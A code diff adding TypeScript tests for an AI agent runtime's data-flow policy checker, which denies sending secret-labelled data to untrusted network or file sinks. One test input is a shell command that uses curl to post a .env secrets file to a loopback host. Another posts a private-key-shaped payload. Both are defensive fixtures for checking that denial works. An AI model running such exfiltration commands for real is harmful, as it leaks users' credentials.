@@ -137,3 +137,97 @@ describe("Runtime.checkPolicy", () => {
 		await expect(runtime.checkPolicy(request)).rejects.toThrow("runtime is closed");
 	});
 });
+
+describe("checkPolicy: flow", () => {
+	const post = { url: "http://127.0.0.1:9/x", method: "POST", body: "hello" };
+	const env = { PATH: process.env.PATH ?? "" };
+
+	it("a secret payload to an unmatched loopback sink is denied, with the default that applied and why", async () => {
+		const check = decided(await checkPolicy({ workspace, tool: "web_fetch", arguments: post, label: { sensitivity: "secret" } }, { env }));
+		expect(check.flow?.egress).toBe(true);
+		expect(check.flow?.sinks).toHaveLength(1);
+		const [sink] = check.flow!.sinks;
+		expect(sink).toMatchObject({ operation: "net.fetch", sink: "net:http://127.0.0.1:9", decision: "deny", ceiling_bounds: false });
+		expect(sink!.clearance).toEqual({ sink: "net:http://127.0.0.1:9", trust: "untrusted", max: "internal", rule: "default: unmatched sink" });
+		expect(sink!.label.sensitivity).toBe("secret");
+		expect(sink!.why).toBe("secret data is above what net:http://127.0.0.1:9 clears (untrusted, up to internal)");
+	});
+
+	it("a trusted sink rule allows it, naming the rule and the config it came from", async () => {
+		const flow = { sinks: [{ sink: "net:http://127.0.0.1:*", trust: "trusted" as const, max: "secret" as const, source: "user config /x/config.yaml" }] };
+		const check = decided(await checkPolicy({ workspace, tool: "web_fetch", arguments: post, label: { sensitivity: "secret" }, flow }, { env }));
+		expect(check.flow?.sinks[0]).toMatchObject({ decision: "allow", clearance: { trust: "trusted", max: "secret", rule: "net:http://127.0.0.1:* (user config /x/config.yaml)" } });
+		expect(check.flow?.sinks[0]?.why).toBe("secret data is within what net:http://127.0.0.1:9 clears (trusted, up to secret)");
+	});
+
+	it("a rule with a release level asks for an exact release", async () => {
+		const flow = { sinks: [{ sink: "net:http://127.0.0.1:*", trust: "untrusted" as const, max: "internal" as const, release: "secret" as const }] };
+		const check = decided(await checkPolicy({ workspace, tool: "web_fetch", arguments: post, label: { sensitivity: "secret" }, flow }, { env }));
+		expect(check.flow?.sinks[0]?.decision).toBe("release");
+		expect(check.flow?.sinks[0]?.clearance.rule).toBe("net:http://127.0.0.1:* (host)");
+		expect(check.flow?.sinks[0]?.why).toContain("only an exact release can send it");
+	});
+
+	it("a secret shape in the payload is detected without any label given", async () => {
+		const leak = { ...post, body: "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----" };
+		const check = decided(await checkPolicy({ workspace, tool: "web_fetch", arguments: leak }, { env }));
+		expect(check.flow?.sinks[0]?.decision).toBe("deny");
+		expect(check.flow?.sinks[0]?.label.sources).toContainEqual({ kind: "detected", ref: "net.fetch payload" });
+	});
+
+	it("shell curl posting .env is denied with no label: .env is a secret file", async () => {
+		const check = decided(await checkPolicy({ workspace, tool: "shell", arguments: { command: "curl -d @.env http://127.0.0.1:9/x" } }, { env }));
+		expect(check.flow?.label).toMatchObject({ sensitivity: "internal", integrity: "trusted" });
+		expect(check.flow?.files).toContainEqual({ path: ".env", label: { sensitivity: "secret", integrity: "trusted", sources: [{ kind: "file", ref: ".env" }] } });
+		const sink = check.flow?.sinks.find((s) => s.sink === "net:http://127.0.0.1:9");
+		expect(sink).toMatchObject({ operation: "shell.exec", decision: "deny" });
+		expect(sink?.why).toContain("secret data (from file .env");
+	});
+
+	it("a command that sends nothing out has no flow section", async () => {
+		const check = decided(await checkPolicy({ workspace, tool: "shell", arguments: { command: "wc -l README.md" } }, { env }));
+		expect(check.flow).toBeUndefined();
+	});
+
+	it("untrusted data may not be written where a rule asks for trusted data only", async () => {
+		const flow = { sinks: [{ sink: "fs:.github/**", trust: "trusted" as const, max: "secret" as const, min_integrity: "trusted" as const }] };
+		const call = { path: ".github/workflows/ci.yml", content: "on: push\n" };
+		const check = decided(await checkPolicy({ workspace, tool: "write_file", arguments: call, label: { sensitivity: "internal", integrity: "untrusted" }, flow }, { env }));
+		expect(check.flow?.sinks[0]).toMatchObject({ operation: "fs.write", sink: "fs:.github/workflows/ci.yml", decision: "deny" });
+		expect(check.flow?.sinks[0]?.why).toBe("untrusted data may not reach fs:.github/workflows/ci.yml, which accepts trusted data only");
+		const trusted = decided(await checkPolicy({ workspace, tool: "write_file", arguments: call, flow }, { env }));
+		expect(trusted.flow?.sinks[0]?.decision).toBe("allow");
+	});
+
+	it("the task ceiling's sinks bound a sink of their kind", async () => {
+		const ceiling = { sinks: ["net:https://api.example.com:443"] };
+		const check = decided(await checkPolicy({ workspace, tool: "web_fetch", arguments: post, ceiling }, { env }));
+		expect(check.flow?.sinks[0]).toMatchObject({ decision: "deny", ceiling_bounds: true });
+		expect(check.flow?.sinks[0]?.why).toContain("the task ceiling's sinks do not include net:http://127.0.0.1:9");
+	});
+
+	it("explains the model's sink: a local model gets secrets as read, a remote one has them withheld", async () => {
+		const local = decided(await checkPolicy({ workspace, tool: "read_file", arguments: { path: "secret/key.txt" }, model: "scripted:plan.yaml" }, { env }));
+		expect(local.flow).toMatchObject({ egress: false, sinks: [] });
+		expect(local.flow?.model).toMatchObject({ sink: "llm:scripted", locality: "in-process", redacts: false, secret_results: "sent" });
+		expect(local.flow?.model?.clearance.rule).toBe("llm:scripted (default: local model)");
+
+		const remote = decided(await checkPolicy({ workspace, tool: "read_file", arguments: { path: "secret/key.txt" }, model: "openai:gpt-4o-mini" }, { env }));
+		expect(remote.flow?.model).toMatchObject({ sink: "llm:openai/gpt-4o-mini", locality: "remote", redacts: true, secret_results: "withheld" });
+		// Without an API key the spec cannot be used, and a model that cannot say where it sends is remote.
+		expect(remote.flow?.model?.note).toContain("OPENAI_API_KEY");
+	});
+
+	it("Runtime.checkPolicy explains flow the same way", async () => {
+		const request = { workspace, tool: "web_fetch", arguments: post, label: { sensitivity: "secret" as const } };
+		expect((decided(await runtime.checkPolicy(request)).flow)).toEqual(decided(await checkPolicy(request)).flow);
+	});
+
+	it("a bad label or sink rule fails as a configuration error", async () => {
+		await expect(checkPolicy({ workspace, tool: "web_fetch", arguments: post, label: { sensitivity: "top" as "secret" } }, { env })).rejects.toThrow(
+			"label sensitivity must be one of public, internal, secret",
+		);
+		const flow = { sinks: [{ sink: "net:http://127.0.0.1:*", trust: "untrusted" as const, max: "secret" as const }] };
+		await expect(checkPolicy({ workspace, tool: "web_fetch", arguments: post, flow }, { env })).rejects.toThrow("an untrusted sink clears at most internal");
+	});
+});
